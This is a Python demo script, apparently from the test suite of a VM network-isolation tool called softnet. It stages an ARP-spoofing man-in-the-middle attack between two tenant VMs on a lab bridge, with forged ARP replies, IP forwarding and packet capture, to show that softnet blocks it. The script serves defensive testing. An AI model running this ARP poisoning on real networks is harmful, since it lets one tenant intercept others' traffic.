"""Part 2: the story that softnet began with. Two tenants' VMs share a bridge, and one takes the other's traffic by
answering ARP for the gateway.

    victim eth0 -- [softnet] -- tap -- br0 -- eth0 gateway   (DHCP server; "the internet" 1.1.1.1 with a web server)
    attacker eth0 -- [softnet] -- tap --'
"""

import frames
import netns
import services
from vm import VM, qemu_name

VICTIM_MAC, ATTACKER_MAC, GATEWAY_MAC = "52:54:00:00:00:0a", "52:54:00:00:00:0b", "52:54:00:00:00:01"
GATEWAY = "192.168.77.1"
INTERNET = "1.1.1.1"        # a global address, as a guest may reach only those; here it is inside our own namespace
SECRETS = 8


def build_segment(network):
    network.bridge("br0")
    gateway = network.namespace("gateway", ipv6=False)
    network.join(gateway, "eth0", "br0", f"{GATEWAY}/24", mac=GATEWAY_MAC)
    gateway.ip(f"address add {INTERNET}/32 dev lo")
    services.dnsmasq(network, gateway, "192.168.77.10", "192.168.77.50", router=GATEWAY)
    return services.WebServer(gateway, INTERNET)


def start_tenant(screen, network, name, image, mac, softnet):
    tap = f"tap-{name}"
    if softnet is None:
        network.tap(tap, "br0")
        return VM(network, name, image, mac, f"tap,id=n0,ifname={tap},script=no,downscript=no")
    guard = [softnet, "run", "-v", "--vm-mac-address", mac, "--uplink", f"tap:{tap},bridge=br0", "--"]
    screen.typed("host", f"softnet run -v --uplink tap:{tap},bridge=br0 -- {qemu_name()} ...   # the {name}")
    return VM(network, name, image, "{mac}", "dgram,id=n0,local.type=fd,local.str={fd}", guard,
              on_line=screen.guard(f"softnet/{name}"), kind=services.Softnet)


def take_lease(screen, guest):
    screen.typed(guest.name, "udhcpc -i eth0")
    output = guest.run("udhcpc -i eth0 -n -q -t 10 -T 1 -s /bin/udhcpc.sh")
    lease = next(line for line in output.splitlines() if line.startswith("lease "))
    screen.output(guest.name, lease)
    return lease.split()[1].split("/")[0]


def attack(screen, attacker, victim_ip):
    """Tell the victim that we are the gateway, and the gateway that we are the victim, twice a second; forward what we
    get, so that nobody misses anything; and write down what comes by."""
    forged = [frames.arp(frames.REPLY, ATTACKER_MAC, GATEWAY, VICTIM_MAC, victim_ip, destination=VICTIM_MAC),
              frames.arp(frames.REPLY, ATTACKER_MAC, victim_ip, GATEWAY_MAC, GATEWAY, destination=GATEWAY_MAC)]
    attacker.run("echo 1 >/proc/sys/net/ipv4/ip_forward")
    attacker.run("for i in all eth0; do echo 0 >/proc/sys/net/ipv4/conf/$i/send_redirects; done")
    attacker.run("rawframe listen eth0 >/tmp/seen &")
    screen.typed("attacker", "rawframe listen eth0 >seen &")
    command = f"rawframe send eth0 -c 200 -i 500 {' '.join(forged)}"
    screen.typed("attacker", f"{command[:64]}... &   # {GATEWAY} is me, and {victim_ip} too")
    attacker.run(f"{command} >/dev/null &")


def gateway_as_seen_by(guest):
    """The MAC address that the guest has for the gateway; None while it has none."""
    words = guest.run(f"ip neigh show {GATEWAY}").split()
    return words[words.index("lladdr") + 1] if "lladdr" in words else None


def two_tenants(screen, image, softnet):
    how = "with softnet before each of them" if softnet else "without softnet"
    screen.part(f"Part 2{'b' if softnet else 'a'}: two tenants on one bridge, {how}")
    with netns.Network() as network:
        web = build_segment(network)
        victim = start_tenant(screen, network, "victim", image, VICTIM_MAC, softnet)
        attacker = start_tenant(screen, network, "attacker", image, ATTACKER_MAC, softnet)
        for guest in victim, attacker:
            guest.boot()
        victim_ip = take_lease(screen, victim)
        take_lease(screen, attacker)
        victim.run(f"wget -q -O - http://{INTERNET}/hello")         # so that it has an ARP entry to spoil

        attack(screen, attacker, victim_ip)
        if softnet:
            # Wait until softnet has refused both lies, more than once.
            attacker.process.wait_counters(lambda now: now.dropped("guest", "arp-spa-spoof") >= 4, 15,
                                           "softnet to drop the forged ARP replies")
        else:
            netns.wait_for(lambda: gateway_as_seen_by(victim) == ATTACKER_MAC, 15, "the victim to believe the attacker")

        each = f"for i in $(seq {SECRETS}); do"
        fetch = f"{each} timeout 5 wget -q -O /dev/null http://{INTERNET}/secret-$i || exit 1; done"
        screen.typed("victim", fetch)
        fetched = victim.try_run(fetch, 60)[0] == 0
        believed = gateway_as_seen_by(victim)
        screen.typed("victim", f"ip neigh show {GATEWAY}")
        screen.output("victim", f"{GATEWAY} is at {believed}: " +
                      {GATEWAY_MAC: "the gateway", ATTACKER_MAC: "the attacker"}.get(believed, "?"))
        look = f"{each} grep -q $(printf 'GET /secret-%s' $i | xxd -p) /tmp/seen && echo $i; done"
        stolen = len(attacker.try_run(look, 60)[1].split())
        screen.typed("attacker", "grep 'GET /secret-' seen")
        screen.output("attacker", f"{stolen} of the victim's {SECRETS} requests")
        arrived = sum(path.startswith("/secret-") for _, path in web.requests)
        report(screen, softnet, believed, stolen, arrived, fetched)
        attacker.power_off()
        victim.power_off()
        web.close()


def report(screen, softnet, believed, stolen, arrived, fetched):
    where = "behind softnet" if softnet else "bare bridge"
    whose = {GATEWAY_MAC: "the gateway's", ATTACKER_MAC: "the attacker's"}.get(believed, believed)
    screen.row(f"{where}: forge ARP for the gateway", "no effect" if softnet else "fools the victim",
               f"the victim holds {whose} MAC", believed == (GATEWAY_MAC if softnet else ATTACKER_MAC))
    screen.row(f"{where}: read the victim's traffic", "not one request" if softnet else "succeeds",
               f"{stolen} of {SECRETS} secrets read", (stolen == 0) == bool(softnet))
    screen.row(f"{where}: the victim's own work", "arrives", f"{arrived} of {SECRETS} requests arrived",
               fetched and arrived == SECRETS)
